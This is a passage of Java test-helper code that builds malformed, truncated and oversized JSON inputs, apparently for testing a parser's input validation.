        JsonNode copy = sample.deepCopy();
        JsonNode parent = parentOf(copy, path);
        if (parent instanceof ArrayNode a) {
            a.remove(Integer.parseInt(last(path)));
        } else {
            ((ObjectNode) parent).remove(last(path));
        }
        return copy.toString();
    }

    /** The sample with the value at {@code path} replaced by raw JSON text (which need not be valid JSON). */
    private static String replaceRaw(JsonNode sample, String path, String raw) {
        String placeholder = "__BAD_INPUT_PLACEHOLDER__";
        String json = with(sample, path, JsonNodeFactory.instance.textNode(placeholder)).toString();
        return json.replace("\"" + placeholder + "\"", raw);
    }

    private static byte[] replace(byte[] haystack, String needle, byte[] replacement) {
        String text = new String(haystack, StandardCharsets.UTF_8);
        int at = text.indexOf(needle);
        if (at < 0) {
            throw new IllegalStateException("marker not found");
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
        byte[] tail = text.substring(at + needle.length()).getBytes(StandardCharsets.UTF_8);
        out.writeBytes(head);
        out.writeBytes(replacement);
        out.writeBytes(tail);
        return out.toByteArray();
    }

    private static byte[] oversized(JsonNode sample, String field, long limit) {
        long size = Math.min(limit + 1024, Integer.MAX_VALUE - 1024);
        return bytes(with(sample, field, JsonNodeFactory.instance.textNode("y".repeat((int) size))));
    }

    static String abbreviate(String s) {
        return s == null || s.length() <= 300 ? s : s.substring(0, 300) + "...";
    }
}
